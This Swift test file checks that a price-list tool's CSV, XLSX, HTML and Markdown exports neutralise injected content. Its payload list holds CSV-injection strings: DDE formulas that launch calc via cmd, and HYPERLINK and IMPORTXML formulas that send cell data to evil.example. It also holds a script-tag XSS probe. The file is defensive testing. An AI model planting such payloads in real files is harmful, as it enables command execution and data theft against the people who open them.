import Foundation
import Testing

/// Texts that a spreadsheet would run (OWASP, CSV injection), in the names of a price list.
@Suite("No text of a price list becomes a formula or markup")
struct FormulaPayloadTests {
  static let payloads = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "+1+1", "-1+1",
    "@SUM(1+1)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a/a10\")", "@=1+1", "=-1+1",
    "＝1+1", "<script>alert(1)</script>", "\u{200B}=1+1", "=SUM(1+1)*cmd|' /C calc'!A0",
  ]

  private func stocked() throws -> TemporaryFolder {
    let folder = try TemporaryFolder()
    let rows = Self.payloads.enumerated().map { number, payload in
      var row = OpenValueRow(
        part: "W06-\(20_000 + number)", family: payload, net: "1\(number).50", list: "2\(number).25")
      row.name = payload
      row.legalName = payload
      return row
    }
    try folder.importOpenValue(rows)
    return folder
  }

  @Test("in CSV: an apostrophe stands before it, and no number is altered")
  func csv() throws {
    let folder = try stocked()
    let records = csvRecords(try folder.run("export", "ov-pl", "--format", "csv", expecting: 0).output)
    let header = try #require(records.first)
    let amounts = try #require(header.firstIndex { $0.lowercased() == "amount" })
    for record in records.dropFirst() {
      for (index, field) in record.enumerated() where index != amounts {
        let isNumber = Decimal(string: field) != nil
        #expect(isNumber || !(field.first.map { "=+-@\t\r".contains($0) } ?? false), "\(field)")
      }
      #expect(decimal(record[amounts]) != nil, "\(record)")
    }
    let raw = try folder.run("export", "ov-pl", "--format", "csv", "--raw", expecting: 0).output
    #expect(csvRecords(raw).joined().contains("=1+1"))
  }

  @Test("in a workbook: it is a text cell with the very text", .enabled(if: Workbook.canBeRead))
  func workbook() throws {
    let folder = try stocked()
    try folder.run("export", "ov-pl", "--format", "xlsx", "--output", "all.xlsx", expecting: 0)
    let cells = try Workbook(folder.url(of: "all.xlsx")).sheets.flatMap(\.rows).joined()
    #expect(!cells.contains { $0.type == "f" })
    let texts = Set(cells.filter { $0.type != "n" }.compactMap(\.value.string))
    // As the catalogue has it: blanks that are not seen are taken off when a list is read.
    let names = try folder.exported("ov-pl").compactMap { $0["itemName"].string }
    #expect(Set(names).count >= Self.payloads.count - 1)
    for name in names { #expect(texts.contains(name), "\(name)") }
    // 10.50 and 20.25 are those of the first row.
    let numbers = Set(cells.filter { $0.type == "n" }.compactMap(\.value.string))
    #expect(numbers.isSuperset(of: ["10.5", "20.25"]), "\(numbers)")
  }

  @Test("in HTML and Markdown: it is no markup")
  func markup() throws {
    let folder = try stocked()
    let html = try folder.run("search", "script", "--format", "html", expecting: 0).output
    #expect(html.contains("&lt;script&gt;") && !html.contains("<script"), "\(html)")
    let markdown = try folder.run("search", "script", "--format", "md", expecting: 0).output
    #expect(markdown.contains("\\<script\\>alert(1)"), "\(markdown)")
    #expect(!markdown.replacingOccurrences(of: "\\<", with: "").contains("<"), "\(markdown)")
  }
}
